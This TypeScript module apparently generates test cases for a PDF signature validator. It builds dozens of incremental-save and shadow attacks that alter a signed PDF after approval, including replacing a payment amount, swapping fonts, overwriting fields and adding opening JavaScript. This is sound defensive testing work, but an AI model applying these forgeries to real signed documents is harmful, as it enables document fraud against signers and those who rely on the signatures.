/** Content appended, hidden, replaced or swapped after an approval signature. */
import { setEntry, signPdf, updatePdf } from '../pki/sign-pdf.ts';
import {
  append,
  edited,
  newestSection,
  type Objects,
  objectText,
  shadowOffset,
  streamText,
  textOf,
} from './documents.ts';
import type { Attack, AttackWorld } from './table.ts';

export const EVIL = streamText('BT /F1 18 Tf 40 200 Td (So tien: 9.999.999 dong) Tj ET');

export const change =
  (objects: (signed: Uint8Array) => Objects) =>
  ({ signed }: AttackWorld): Uint8Array =>
    append(signed, objects(signed));

export const edit = (num: number, from: string | RegExp, to: string) =>
  change((signed) => edited(signed, num, from, to));

/** An object stream and the xref stream that lists what is in it. */
function inObjectStream({ signed }: AttackWorld): Uint8Array {
  const inner = '<< /Type /Font /Subtype /Type1 /BaseFont /Symbol >>';
  const [container, self] = [150, 151];
  const header = '6 0 ';
  const body = streamText(header + inner, `/Type /ObjStm /N 1 /First ${header.length}`);
  const objectAt = signed.length;
  const first = `${container} 0 obj\n${body}\nendobj\n`;
  const selfAt = objectAt + first.length;
  const rowOf = (type: number, second: number, third: number): string =>
    String.fromCharCode(type, (second >>> 24) & 255, (second >>> 16) & 255, (second >>> 8) & 255, second & 255, third);
  const rows = rowOf(2, container, 0) + rowOf(1, objectAt, 0) + rowOf(1, selfAt, 0);
  const entries = `/Type /XRef /W [1 4 1] /Index [6 1 ${container} 2] /Size 152 /Root 1 0 R /Prev ${newestSection(signed)}`;
  const text = `${first}${self} 0 obj\n${streamText(rows, entries)}\nendobj\nstartxref\n${selfAt}\n%%EOF\n`;
  return new Uint8Array(Buffer.concat([signed, Buffer.from(text, 'latin1')]));
}

/** A hybrid section: readers that know `/XRefStm` see another page. */
function hybrid({ signed }: AttackWorld): Uint8Array {
  const evil = `140 0 obj\n${EVIL}\nendobj\n`;
  const evilAt = signed.length;
  const streamAt = evilAt + evil.length;
  const row = String.fromCharCode(
    1,
    (evilAt >>> 24) & 255,
    (evilAt >>> 16) & 255,
    (evilAt >>> 8) & 255,
    evilAt & 255,
    0,
  );
  const stream = `141 0 obj\n${streamText(row, '/Type /XRef /W [1 4 1] /Index [4 1] /Size 142')}\nendobj\n`;
  const tableAt = streamAt + stream.length;
  const table = `xref\n0 0\ntrailer\n<< /Size 142 /Root 1 0 R /Prev ${newestSection(signed)} /XRefStm ${streamAt} >>\n`;
  const text = `${evil.replace('140 0', '4 0')}${stream}${table}startxref\n${tableAt}\n%%EOF\n`;
  return new Uint8Array(Buffer.concat([signed, Buffer.from(text, 'latin1')]));
}

/** A new chain that leaves the signed revision out. */
function chainReplaced({ signed }: AttackWorld): Uint8Array {
  const first = Number(/startxref\s+(\d+)/.exec(textOf(signed))?.[1]);
  const catalog = { 1: objectText(signed, 1) };
  return append(
    signed,
    { ...catalog, ...edited(signed, 4, '1.000.000', '9.999.999'), 5: objectText(signed, 5), 3: objectText(signed, 3) },
    { prev: first },
  );
}

/** The length of a content stream is an object of its own, signed with one value and replaced afterwards. */
function indirectLength({ signer }: AttackWorld): Uint8Array {
  const base = Buffer.from(
    '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << >> >>\nendobj\n4 0 obj\n<< /Length 5 0 R >>\nstream\n0 g 1\nendstream\n%padding\n1 g 0 0 200 200 re f\nendstream\nendobj\n5 0 obj\n5\nendobj\n',
    'latin1',
  );
  const at = (num: number): string => String(base.toString('latin1').indexOf(`\n${num} 0 obj`) + 1).padStart(10, '0');
  const table = `xref\n0 6\n0000000000 65535 f \n${[1, 2, 3, 4, 5].map((num) => `${at(num)} 00000 n \n`).join('')}`;
  const pdf = new Uint8Array(
    Buffer.concat([
      base,
      Buffer.from(`${table}trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n${base.length}\n%%EOF\n`, 'latin1'),
    ]),
  );
  return append(signPdf(pdf, { signer }), { 5: '46' });
}

export const incrementAttacks: readonly Attack[] = [
  { name: 'ISA: content replaced by an increment', make: change(() => ({ 4: EVIL })) },
  { name: 'ISA: object without any section', make: ({ signed }) => append(signed, { 4: EVIL }, { section: 'none' }) },
  { name: 'ISA: table without trailer', make: ({ signed }) => append(signed, { 4: EVIL }, { section: 'no-trailer' }) },
  {
    name: 'ISA: object behind the last line',
    make: ({ signed }) => append(append(signed, {}), { 4: EVIL }, { section: 'none' }),
  },
  {
    name: 'ISA: object in a comment',
    make: ({ signed }) => append(signed, {}, { tail: `% 4 0 obj ${EVIL.replaceAll('\n', ' ')} endobj\n` }),
  },
  {
    name: 'ISA: second startxref to nowhere',
    make: ({ signed }) => append(append(signed, {}), {}, { section: 'none', tail: 'startxref\n9\n%%EOF\n' }),
  },
  {
    name: 'ISA: object in an increment that no section lists',
    make: ({ signed }) =>
      append(new Uint8Array(Buffer.concat([signed, Buffer.from(`4 0 obj\n${EVIL}\nendobj\n`, 'latin1')])), {}),
  },
  { name: 'ISA: page tree replaced', make: edit(1, '/Pages 2 0 R', '/Pages 97 0 R') },
  { name: 'ISA: chain without the signed revision', make: chainReplaced },
  { name: 'shadow hide: overlay emptied', make: change(() => ({ 14: streamText('') })) },
  { name: 'shadow hide: overlay taken out of the page', make: edit(3, '14 0 R ', '') },
  { name: 'shadow replace: font redefined', make: edit(6, '/Helvetica', '/Symbol') },
  { name: 'shadow replace: font redefined in an object stream', make: inObjectStream },
  { name: 'shadow replace: filled field overwritten', make: edit(8, '/V (12)', '/V (99)') },
  {
    name: 'shadow replace: empty field painted over the page',
    make: change((signed) => ({
      ...edited(signed, 7, '/F 4', '/F 4 /V (9.999.999) /AP << /N 94 0 R >>'),
      94: streamText('1 g 0 0 100 20 re f BT (9.999.999) Tj ET', '/Type /XObject /Subtype /Form /BBox [0 0 100 20]'),
    })),
  },
  {
    name: 'shadow replace: appearance without value',
    make: change(() => ({
      10: streamText('BT /F1 12 Tf (99) Tj ET', '/Type /XObject /Subtype /Form /BBox [0 0 100 20]'),
    })),
  },
  {
    name: 'shadow hide-and-replace: cross-reference to an unused object',
    make: ({ signed, form }) => append(signed, {}, { rows: { 4: shadowOffset(form) } }),
  },
  { name: 'shadow hide-and-replace: kids swapped', make: edit(2, '[3 0 R 13 0 R]', '[13 0 R 3 0 R]') },
  { name: 'dangling reference defined later', make: change(() => ({ 90: EVIL })) },
  { name: 'hybrid section hides another content', make: hybrid },
  { name: 'indirect /Length replaced', make: indirectLength },
  {
    name: 'wrong /Length in the increment',
    make: change(() => ({ 98: '<< /Length 3 >>\nstream\n1 g 0 g\nendstream' })),
  },
  {
    name: 'page added',
    make: change((signed) => ({
      ...edited(signed, 2, '13 0 R]', '13 0 R 99 0 R]'),
      99: '<< /Type /Page /Parent 2 0 R >>',
    })),
  },
  { name: 'page removed', make: edit(2, ' 13 0 R]', ']') },
  { name: 'page count changed', make: edit(2, '/Count 2', '/Count 1') },
  { name: 'page turned', make: edit(3, '/Parent', '/Rotate 180 /Parent') },
  { name: 'page cropped', make: edit(2, '/MediaBox [0 0 300 300]', '/MediaBox [0 0 300 300] /CropBox [0 0 10 10]') },
  {
    name: 'script on opening',
    make: edit(1, '/Type /Catalog', '/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
  },
  {
    name: 'named script',
    make: edit(
      1,
      '/Type /Catalog',
      '/Type /Catalog /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>',
    ),
  },
  { name: 'layer switched off', make: edit(1, '/D << /ON [12 0 R] >>', '/D << /OFF [12 0 R] >>') },
  {
    name: 'XFA form added',
    make: change((signed) => ({ ...edited(signed, 5, '/Fields', '/XFA 94 0 R /Fields'), 94: streamText('<xdp/>') })),
  },
  { name: 'appearances to be painted anew', make: edit(5, '/Fields', '/NeedAppearances true /Fields') },
  { name: 'field hidden', make: edit(8, '/F 4', '/F 2') },
  { name: 'field moved over content', make: edit(7, '[40 100 140 120]', '[0 0 300 300]') },
  { name: 'field removed', make: edit(5, ' 9 0 R', '') },
  {
    name: 'text field added',
    make: change((signed) => ({
      ...edited(signed, 5, '/Fields [', '/Fields [93 0 R '),
      93: '<< /Type /Annot /Subtype /Widget /FT /Tx /T (moi) /V (x) /Rect [0 0 300 300] /P 3 0 R >>',
      ...edited(signed, 3, '/Annots [', '/Annots [93 0 R '),
    })),
  },
  {
    name: 'widget without field added',
    make: change((signed) => ({
      ...edited(signed, 3, '/Annots [', '/Annots [93 0 R '),
      93: '<< /Type /Annot /Subtype /Widget /FT /Sig /Rect [0 0 300 300] >>',
    })),
  },
  { name: 'link redirected', make: edit(16, 'https://example.vn', 'https://example.ru') },
  {
    name: 'note added to an approved document',
    make: change((signed) => ({
      ...edited(signed, 3, '/Annots [', '/Annots [93 0 R '),
      93: '<< /Type /Annot /Subtype /FreeText /Contents (x) /Rect [0 0 300 300] >>',
    })),
  },
  {
    name: 'catalog replaced by the trailer',
    make: ({ signed }) => append(signed, { 97: objectText(signed, 1) }, { trailer: '/Root 97 0 R' }),
  },
  {
    name: 'encryption added',
    make: ({ signed }) =>
      append(
        signed,
        { 97: '<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>' },
        { trailer: '/Root 1 0 R /Encrypt 97 0 R' },
      ),
  },
  {
    name: 'signed field renamed',
    make: ({ signed }) =>
      updatePdf(signed, (one) => {
        const field = fieldNumber(signed);
        setEntry(one, { num: field, gen: 0 }, 'T', { kind: 'string', bytes: new Uint8Array([65]), form: 'literal' });
      }),
  },
  {
    name: 'appearance of the signature replaced',
    make: ({ signed }) =>
      updatePdf(signed, (one) =>
        setEntry(one, { num: fieldNumber(signed), gen: 0 }, 'Rect', {
          kind: 'array',
          items: [0, 0, 300, 300].map((value) => ({ kind: 'number', value, text: String(value) })),
        }),
      ),
  },
  { name: 'resource dictionary that is also a field', make: resourceAsField },
];

export function fieldNumber(pdf: Uint8Array): number {
  return Number([...textOf(pdf).matchAll(/(\d+) 0 obj\s<<[^\n]*\/FT \/Sig/g)].at(-1)?.[1]);
}

/** Prepared before signing: the resources of a page are also listed as a text field, and its "value" is a form that is painted. */
function resourceAsField({ form, signer }: AttackWorld): Uint8Array {
  const prepared = append(form, {
    ...edited(form, 3, /\/Resources << .*? >> >> /, '/Resources << /XObject 80 0 R >> '),
    ...edited(form, 5, '/Fields [', '/Fields [80 0 R '),
    4: streamText('/V Do'),
    80: '<< /FT /Tx /T (an) /V 81 0 R >>',
    81: streamText('0 g', '/Type /XObject /Subtype /Form /BBox [0 0 300 300]'),
  });
  const signed = signPdf(prepared, { signer });
  return append(signed, {
    82: streamText('1 g 0 0 300 300 re f', '/Type /XObject /Subtype /Form /BBox [0 0 300 300]'),
    ...edited(signed, 80, '81 0 R', '82 0 R'),
  });
}
